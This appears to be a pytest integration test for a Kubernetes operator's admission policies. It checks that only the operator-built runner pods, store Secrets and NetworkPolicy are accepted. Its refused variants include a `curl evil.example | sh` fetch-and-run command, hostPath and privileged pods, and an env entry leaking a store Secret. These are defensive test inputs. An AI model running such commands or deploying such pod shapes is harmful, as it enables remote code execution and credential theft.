"""The chart's ValidatingAdmissionPolicies on the real API server: what the operator's
ServiceAccount may write is the runner pod reconcile/podspec.py builds, its store Secret, deletes
of runner pods and the runner NetworkPolicy as configured; nothing else.

The chart is rendered for a release of its own and applied without its Deployment (no operator
runs: the test writes as the operator would, with a TokenRequest token of the chart's
ServiceAccount). Every write is a server-side dry run, so admission runs and nothing is created;
what the policies allow is built by the operator's own code from the rendered settings. Needs
only the control plane (no node).
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from agentsession_operator.models import AgentSession
from agentsession_operator.reconcile.network_policy import runner_network_policy
from agentsession_operator.reconcile.podspec import build_pod, run_config_for, store_secret
from agentsession_operator.settings import OperatorSettings
from tests.support.cluster import LocalCluster, wait_for
from tests.support.helm import Helm, Obj, literal_env, objects, only, operator_container

pytestmark = pytest.mark.cluster

RUNNER_IMAGE = "registry.example/platform/agentsession-runner:1.0"
ALLOWED_PREFIX = "registry.example/team-a/"
RELEASE = "vap"
# Egress rules with every shape the operator and the policy must agree on (except, endPort,
# selectors with expressions, an empty podSelector, a port without a protocol).
EXTRA_EGRESS = [
    {
        "to": [{"ipBlock": {"cidr": "0.0.0.0/0", "except": ["169.254.0.0/16", "10.0.0.0/8"]}}],
        "ports": [{"port": 443}, {"port": 8000, "endPort": 8100, "protocol": "TCP"}],
    },
    {
        "to": [
            {
                "namespaceSelector": {
                    "matchExpressions": [{"key": "team", "operator": "In", "values": ["a"]}]
                },
                "podSelector": {},
            }
        ]
    },
]
VALUES = {
    "store.url": "s3://agentsessions/vap",
    "crds.enabled": False,
    "tenantRoles.enabled": False,
    "runner.image": RUNNER_IMAGE,
    "runner.imageAllowlist": [ALLOWED_PREFIX + "*"],
    "networkPolicy.runners.s3.to": [{"ipBlock": {"cidr": "52.216.0.0/15"}}],
    "networkPolicy.runners.extraEgress": EXTRA_EGRESS,
}
CREDENTIALS = {
    "AWS_ACCESS_KEY_ID": "ASIAEXAMPLE",
    "AWS_SECRET_ACCESS_KEY": "not-a-secret",
    "AWS_SESSION_TOKEN": "not-a-token",
}


@dataclass
class Installed:
    """The chart's policies and RBAC in the cluster, and how to write as its operator."""

    cluster: LocalCluster
    kubeconfig: Path
    settings: OperatorSettings
    tenant: str
    docs: list[Obj]

    def write(self, manifest: Obj, *args: str) -> tuple[bool, str]:
        """A server-side dry run of `kubectl <args>` with the manifest, as the operator; whether
        it was allowed, and what the API server said."""
        result = self.cluster.kubectl(
            *args,
            "--dry-run=server",
            "-f",
            "-",
            kubeconfig=self.kubeconfig,
            input_text=json.dumps(manifest),
        )
        return result.returncode == 0, result.stderr + result.stdout

    def create(self, manifest: Obj) -> tuple[bool, str]:
        return self.write(manifest, "create")

    def apply(self, manifest: Obj) -> tuple[bool, str]:
        """Server-side apply as the operator's field manager, as kube.client does."""
        return self.write(
            manifest,
            "apply",
            "--server-side",
            "--field-manager=agentsession-operator",
            "--force-conflicts",
        )

    def session(self, name: str = "probe", **spec: Any) -> AgentSession:
        return AgentSession.from_body(
            {
                "apiVersion": "agents.dev/v1alpha1",
                "kind": "AgentSession",
                "metadata": {
                    "name": name,
                    "namespace": self.tenant,
                    "uid": "6c2d0d52-3b1a-4e59-9f38-0a9c1c7e2a11",
                },
                "spec": {"prompt": "Say hello.", **spec},
            }
        )

    def pod(self, settings: OperatorSettings | None = None, **spec: Any) -> Obj:
        """The runner pod the operator builds for attempt 1 of a session with `spec`."""
        used = settings or self.settings
        session = self.session(**spec)
        return build_pod(session, 1, run_config_for(session, None, used), used)


def settings_from(deployment: Obj) -> OperatorSettings:
    """The operator's settings as it would read them from the rendered Deployment's env."""
    env = literal_env(operator_container(deployment))
    values = {k.removeprefix("AGENTSESSION_").lower(): v for k, v in env.items()}
    return OperatorSettings.model_validate(values)


@pytest.fixture(scope="module")
def installed(
    cluster_helm: Helm, local_cluster: LocalCluster, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Installed]:
    release_ns = local_cluster.create_namespace("vap-release", labels={})
    tenant = local_cluster.create_namespace("vap-tenant", labels={})
    docs = objects(
        cluster_helm.template(release=RELEASE, namespace=release_ns, set_json=VALUES).stdout
    )
    deployment = only(docs, "Deployment")
    applied_docs = [d for d in docs if d["kind"] != "Deployment"]
    applied = local_cluster.kubectl("apply", "-f", "-", input_text=yaml.safe_dump_all(applied_docs))
    assert applied.returncode == 0, applied.stderr
    account = deployment["spec"]["template"]["spec"]["serviceAccountName"]
    kubeconfig = local_cluster.service_account_kubeconfig(
        release_ns, account, tmp_path_factory.mktemp("vap") / "kubeconfig"
    )
    result = Installed(local_cluster, kubeconfig, settings_from(deployment), tenant, applied_docs)
    # The API server starts enforcing a new policy within seconds: wait until all of them do.
    probes: dict[str, Callable[[], tuple[bool, str]]] = {
        "runner pods": lambda: result.create(with_(result.pod(), "spec", "hostPID", True)),
        "store secrets": lambda: result.create(with_(secret(result), "metadata", "name", "db")),
        "network policies": lambda: result.apply(
            with_(runner_network_policy(result.settings, tenant), "spec", "ingress", [{}])
        ),
    }
    for what, probe in probes.items():
        wait_for(
            refused_by_a_policy(probe),
            timeout=60,
            what=f"the admission policy on {what} in force",
        )
    yield result
    cluster_scoped = [d for d in applied_docs if "namespace" not in d["metadata"]]
    local_cluster.kubectl("delete", "-f", "-", input_text=yaml.safe_dump_all(cluster_scoped))
    for namespace in (release_ns, tenant):
        local_cluster.delete_namespace(namespace)


def refused_by_a_policy(write: Callable[[], tuple[bool, str]]) -> Callable[[], bool]:
    return lambda: "ValidatingAdmissionPolicy" in write()[1]


def with_(manifest: Obj, *path_and_value: Any) -> Obj:
    """A deep copy of `manifest` with the value at `path` (keys and list indexes) replaced."""
    *path, key, value = path_and_value
    changed = copy.deepcopy(manifest)
    target = changed
    for step in path:
        target = target[step]
    target[key] = value
    return changed


def secret(installed: Installed) -> Obj:
    return store_secret(installed.session(), "probe-1", CREDENTIALS)


def refused_with(installed: Installed, manifest: Obj, message: str, *, apply: bool = False) -> None:
    allowed, said = (installed.apply if apply else installed.create)(manifest)
    assert not allowed, f"allowed: {manifest}"
    assert "ValidatingAdmissionPolicy" in said, said
    assert message in said, said


# --- runner pods ---------------------------------------------------------------------------------


def test_the_pod_the_operator_builds_is_allowed(installed: Installed) -> None:
    assert installed.create(installed.pod()) == (True, "pod/probe-1 created (server dry run)\n")


def test_runner_pod_variants_the_operator_builds_are_allowed(installed: Installed) -> None:
    """Store credentials from the attempt's Secret, the tenant's API key and env Secrets, an
    allowlisted image: every shape the operator produces passes."""
    vending = installed.settings.model_copy(update={"store_role_arn": "arn:aws:iam::1:role/x"})
    pod = installed.pod(
        vending,
        image=ALLOWED_PREFIX + "tools:2",
        apiKeySecretRef={"name": "team-key", "key": "KEY"},
        env=[{"name": "DB_URL", "valueFrom": {"secretKeyRef": {"name": "db", "key": "url"}}}],
    )
    gateway_refs = {
        e["valueFrom"]["secretKeyRef"]["name"]
        for e in pod["spec"]["initContainers"][0]["env"]
        if "valueFrom" in e
    }
    assert gateway_refs == {"team-key", "agentsession-store-probe-1"}
    allowed, said = installed.create(pod)
    assert allowed, said


def runner(pod: Obj) -> Obj:
    container: Obj = pod["spec"]["containers"][0]
    return container


def gateway(pod: Obj) -> Obj:
    container: Obj = pod["spec"]["initContainers"][0]
    return container


def edit(change: Callable[[Obj], object]) -> Callable[[Obj], Obj]:
    def apply(pod: Obj) -> Obj:
        changed = copy.deepcopy(pod)
        change(changed)
        return changed

    return apply


POD_VARIANTS: dict[str, tuple[Callable[[Obj], Obj], str]] = {
    "hostPath volume": (
        edit(
            lambda p: (
                p["spec"]["volumes"].append({"name": "host", "hostPath": {"path": "/etc"}}),
                runner(p)["volumeMounts"].append({"name": "host", "mountPath": "/host"}),
            )
        ),
        "emptyDir and downwardAPI volumes",
    ),
    "Secret volume": (
        edit(lambda p: p["spec"]["volumes"].append({"name": "s", "secret": {"secretName": "x"}})),
        "emptyDir and downwardAPI volumes",
    ),
    "projected token": (
        edit(
            lambda p: p["spec"]["volumes"].append(
                {"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "t"}}]}}
            )
        ),
        "emptyDir and downwardAPI volumes",
    ),
    "privileged": (
        edit(
            lambda p: runner(p)["securityContext"].update(
                privileged=True,
                allowPrivilegeEscalation=True,  # the API refuses one without
            )
        ),
        "no privileged container",
    ),
    "privilege escalation": (
        edit(lambda p: gateway(p)["securityContext"].update(allowPrivilegeEscalation=True)),
        "allowPrivilegeEscalation false",
    ),
    "another image": (
        edit(lambda p: runner(p).update(image="docker.io/library/busybox:1")),
        "the runner image must be runner.image or on runner.imageAllowlist",
    ),
    "another gateway image": (
        edit(lambda p: gateway(p).update(image=ALLOWED_PREFIX + "tools:2")),
        "the gateway image gateway.image",
    ),
    "no ownerReference": (
        edit(lambda p: p["metadata"].pop("ownerReferences")),
        "must be the controller reference to the AgentSession",
    ),
    "owned by a Deployment": (
        edit(lambda p: p["metadata"]["ownerReferences"][0].update(kind="Deployment")),
        "must be the controller reference to the AgentSession",
    ),
    "owned by another session": (
        edit(lambda p: p["metadata"]["ownerReferences"][0].update(name="other")),
        "must be the controller reference to the AgentSession",
    ),
    "no runner labels": (
        edit(lambda p: p["metadata"]["labels"].pop("app.kubernetes.io/managed-by")),
        "must carry the runner labels",
    ),
    "hostNetwork": (
        edit(lambda p: p["spec"].update(hostNetwork=True)),
        "hostNetwork only where the chart's runner.hostNetwork is on",
    ),
    "hostPID": (edit(lambda p: p["spec"].update(hostPID=True)), "no hostPID"),
    "hostIPC": (edit(lambda p: p["spec"].update(hostIPC=True)), "no hostPID, hostIPC"),
    "shared process namespace": (
        edit(lambda p: p["spec"].update(shareProcessNamespace=True)),
        "shared process namespace",
    ),
    "root": (
        edit(lambda p: p["spec"]["securityContext"].update(runAsNonRoot=False, runAsUser=0)),
        "runAsNonRoot, the runner and the workspace init step as runner.uid",
    ),
    "gateway as the runner's uid": (
        edit(lambda p: gateway(p)["securityContext"].update(runAsUser=65532, runAsGroup=65532)),
        "the gateway as gateway.uid",
    ),
    "added capability": (
        edit(lambda p: runner(p)["securityContext"]["capabilities"].update(add=["NET_ADMIN"])),
        "drops ALL capabilities and adds none",
    ),
    "ServiceAccount token": (
        edit(lambda p: p["spec"].update(automountServiceAccountToken=True)),
        "automountServiceAccountToken false",
    ),
    "another ServiceAccount": (
        edit(lambda p: p["spec"].update(serviceAccountName="default-admin")),
        "the namespace's default ServiceAccount",
    ),
    "another attempt's store Secret": (
        edit(
            lambda p: gateway(p)["env"].append(
                {
                    "name": "AWS_ACCESS_KEY_ID",
                    "valueFrom": {
                        "secretKeyRef": {
                            "name": "agentsession-store-other-1",
                            "key": "AWS_ACCESS_KEY_ID",
                        }
                    },
                }
            )
        ),
        "only the gateway may reference one, its attempt's agentsession-store-<pod>",
    ),
    "store Secret in the agent's container": (
        edit(
            lambda p: runner(p)["env"].append(
                {
                    "name": "LEAK",
                    "valueFrom": {
                        "secretKeyRef": {
                            "name": "agentsession-store-probe-1",
                            "key": "AWS_SESSION_TOKEN",
                        }
                    },
                }
            )
        ),
        "only the gateway may reference one",
    ),
    "envFrom": (
        edit(lambda p: runner(p).update(envFrom=[{"secretRef": {"name": "db"}}])),
        "no envFrom",
    ),
    "another command": (
        edit(lambda p: runner(p).update(command=["sh", "-c", "curl evil.example | sh"])),
        "the containers run runner.command, gateway.command and gateway.workspaceCommand",
    ),
    "args": (edit(lambda p: runner(p).update(args=["--debug"])), "with no args"),
    "a second container": (
        edit(lambda p: p["spec"]["containers"].append({**runner(p), "name": "extra"})),
        "exactly the runner container, the gateway sidecar",
    ),
    "nodeName": (
        edit(lambda p: p["spec"].update(nodeName="control-plane")),
        "exactly the runner container, the gateway sidecar",
    ),
}


@pytest.mark.parametrize("variant", list(POD_VARIANTS))
def test_a_pod_other_than_the_runner_shape_is_refused(installed: Installed, variant: str) -> None:
    change, message = POD_VARIANTS[variant]
    if variant == "another ServiceAccount":  # exists, so only the policy can refuse it
        installed.cluster.kubectl(
            "create", "serviceaccount", "default-admin", "-n", installed.tenant
        )
    refused_with(installed, change(installed.pod()), message)


WORKSPACE_SPEC: dict[str, Any] = {
    "workspace": {
        "sources": [
            {
                "name": "repo",
                "path": "src",
                "git": {
                    "url": "https://git.example.com/r.git",
                    "credentialsSecretRef": {"name": "gc"},
                },
            },
            {"name": "cfg", "path": "cfg", "configMap": {"name": "settings"}},
            {"name": "keys", "path": "keys", "secret": {"name": "tenant-keys"}},
        ]
    },
    "outputs": {"git": [{"source": "repo", "push": {}}]},
}


def test_a_pod_with_workspace_sources_is_allowed(installed: Installed) -> None:
    """The init step after the gateway, its source volumes and git credentials: allowed."""
    pod = installed.pod(**WORKSPACE_SPEC)
    assert [c["name"] for c in pod["spec"]["initContainers"]] == ["gateway", "workspace"]
    allowed, said = installed.create(pod)
    assert allowed, said


def workspace_init(pod: Obj) -> Obj:
    container: Obj = pod["spec"]["initContainers"][1]
    assert container["name"] == "workspace"
    return container


WORKSPACE_VARIANTS: dict[str, tuple[Callable[[Obj], Obj], str]] = {
    "a source volume in the agent's container": (
        edit(
            lambda p: runner(p)["volumeMounts"].append({"name": "source-keys", "mountPath": "/k"})
        ),
        "mounted in the workspace init container only",
    ),
    "the git state in the agent's container": (
        edit(lambda p: runner(p)["volumeMounts"].append({"name": "git-state", "mountPath": "/g"})),
        "the git-state volume never in the runner container",
    ),
    "an operator Secret as a source volume": (
        edit(
            lambda p: p["spec"]["volumes"].append(
                {"name": "source-x", "secret": {"secretName": "agentsession-store-other-1"}}
            )
        ),
        "never an agentsession-* Secret",
    ),
    "another init step command": (
        edit(lambda p: workspace_init(p).update(command=["sh", "-c", "env"])),
        "gateway.workspaceCommand",
    ),
    "the init step as the gateway's uid": (
        edit(lambda p: workspace_init(p)["securityContext"].update(runAsUser=65533)),
        "the workspace init step as runner.uid",
    ),
    "the store Secret in the init step": (
        edit(
            lambda p: workspace_init(p)["env"].append(
                {
                    "name": "AWS_SECRET_ACCESS_KEY",
                    "valueFrom": {
                        "secretKeyRef": {
                            "name": "agentsession-store-probe-1",
                            "key": "AWS_SECRET_ACCESS_KEY",
                        }
                    },
                }
            )
        ),
        "only the gateway may reference one",
    ),
    "a third init container": (
        edit(lambda p: p["spec"]["initContainers"].append({**workspace_init(p), "name": "extra"})),
        "optionally the workspace init container after it",
    ),
}


@pytest.mark.parametrize("variant", list(WORKSPACE_VARIANTS))
def test_a_workspace_pod_other_than_its_shape_is_refused(
    installed: Installed, variant: str
) -> None:
    change, message = WORKSPACE_VARIANTS[variant]
    refused_with(installed, change(installed.pod(**WORKSPACE_SPEC)), message)


def test_a_bare_pod_is_refused(installed: Installed) -> None:
    bare = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "shell"},
        "spec": {"containers": [{"name": "c", "image": RUNNER_IMAGE, "command": ["sleep", "1"]}]},
    }
    refused_with(installed, bare, "must carry the runner labels")


def pods_policy(docs: list[Obj]) -> Obj:
    (policy,) = (
        d
        for d in docs
        if d["kind"] == "ValidatingAdmissionPolicy" and d["metadata"]["name"].endswith("-pods")
    )
    return policy


def allowed_once_rendered_with(
    installed: Installed, cluster_helm: Helm, values: dict[str, Any], pod: Obj, what: str
) -> None:
    """`pod` is refused by the installed policy, allowed once the policy the chart renders with
    `values` replaces it, and refused again when the installed one is back: the setting is a
    literal of the policy (no parameter object to change)."""
    policy = pods_policy(installed.docs)
    namespace = next(d for d in installed.docs if d["kind"] == "ServiceAccount")["metadata"][
        "namespace"
    ]
    rendered = objects(
        cluster_helm.template(
            release=RELEASE, namespace=namespace, set_json={**VALUES, **values}
        ).stdout
    )
    on = pods_policy(rendered)
    assert "paramKind" not in on["spec"]
    try:
        applied = installed.cluster.kubectl("apply", "-f", "-", input_text=json.dumps(on))
        assert applied.returncode == 0, applied.stderr
        wait_for(lambda: installed.create(pod)[0], timeout=60, what=f"{what} allowed")
    finally:
        installed.cluster.kubectl("apply", "-f", "-", input_text=json.dumps(policy))
    wait_for(lambda: not installed.create(pod)[0], timeout=60, what=f"{what} refused again")


def test_host_network_is_a_setting_of_the_policy(installed: Installed, cluster_helm: Helm) -> None:
    """With the chart's runner.hostNetwork on (a local cluster), the pod the operator then
    builds is allowed: the chart renders the setting into the policy."""
    host = installed.settings.model_copy(update={"runner_host_network": True})
    pod = installed.pod(host)
    assert pod["spec"]["hostNetwork"] is True
    refused_with(installed, pod, "hostNetwork only where")
    allowed_once_rendered_with(
        installed, cluster_helm, {"runner.hostNetwork": True}, pod, "hostNetwork"
    )


def test_the_workspace_command_is_a_setting_of_the_policy(
    installed: Installed, cluster_helm: Helm
) -> None:
    """gateway.workspaceCommand is rendered into the policy as a literal like the other
    commands: the init step of an operator configured with another one is allowed only by the
    policy rendered with it."""
    command = ["/opt/agentsession/bin/workspace-init"]
    other = installed.settings.model_copy(update={"workspace_command": command})
    pod = installed.pod(other, **WORKSPACE_SPEC)
    assert workspace_init(pod)["command"] == command
    refused_with(installed, pod, "gateway.workspaceCommand")
    allowed_once_rendered_with(
        installed, cluster_helm, {"gateway.workspaceCommand": command}, pod, "workspace command"
    )


# --- deletes, Secrets, the NetworkPolicy ---------------------------------------------------------


def test_the_operator_deletes_runner_pods_only(installed: Installed) -> None:
    """Real pods (held unscheduled by a scheduling gate, so none runs), deleted in a dry run."""
    hold = [{"name": "agents.dev/test-hold"}]
    runner_pod = with_(installed.pod(), "spec", "schedulingGates", hold)
    del runner_pod["metadata"]["ownerReferences"]  # no such session: the collector would delete it
    other = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "bystander", "namespace": installed.tenant, "labels": {"app": "db"}},
        "spec": {"schedulingGates": hold, "containers": [{"name": "c", "image": RUNNER_IMAGE}]},
    }
    for manifest in (runner_pod, other):
        made = installed.cluster.kubectl("create", "-f", "-", input_text=json.dumps(manifest))
        assert made.returncode == 0, made.stderr
    delete = ("delete", "pod", "-n", installed.tenant, "--dry-run=server")
    allowed = installed.cluster.kubectl(*delete, "probe-1", kubeconfig=installed.kubeconfig)
    assert allowed.returncode == 0, allowed.stderr
    refused = installed.cluster.kubectl(*delete, "bystander", kubeconfig=installed.kubeconfig)
    assert refused.returncode != 0
    assert "the agentsession operator deletes runner pods only" in refused.stderr


def test_the_store_secret_is_allowed_and_nothing_else(installed: Installed) -> None:
    ok, said = installed.create(secret(installed))
    assert ok, said
    variants = {
        "another name": with_(secret(installed), "metadata", "name", "db-password"),
        "another key": with_(secret(installed), "stringData", "EXTRA", "x"),
        "another type": {**secret(installed), "type": "example.com/other"},
        "no owner": edit(lambda s: s["metadata"].pop("ownerReferences"))(secret(installed)),
    }
    for what, manifest in variants.items():
        allowed, said = installed.create(manifest)
        assert not allowed, what
        assert "the agentsession operator creates store-credential Secrets only" in said, what


def test_the_runner_network_policy_is_allowed_exactly_as_configured(installed: Installed) -> None:
    policy = runner_network_policy(installed.settings, installed.tenant)
    ok, said = installed.apply(policy)
    assert ok, said
    widened = copy.deepcopy(policy)
    widened["spec"]["egress"].append({"to": [{"namespaceSelector": {}}]})
    refused_with(installed, widened, "exactly the chart's networkPolicy.runners rules", apply=True)
    other_port = copy.deepcopy(policy)
    other_port["spec"]["egress"][1]["ports"][0]["port"] = 8443
    refused_with(installed, other_port, "exactly the chart's", apply=True)
    everyone = with_(policy, "spec", "podSelector", {})
    refused_with(installed, everyone, "selecting runner pods, no ingress", apply=True)
    ingress = with_(policy, "spec", "ingress", [{"from": [{"podSelector": {}}]}])
    refused_with(installed, ingress, "selecting runner pods, no ingress", apply=True)
    # Any other name: RBAC already refuses it (the rule names the policy).
    renamed = with_(policy, "metadata", "name", "allow-all")
    allowed, said = installed.apply(renamed)
    assert not allowed
    assert "forbidden" in said
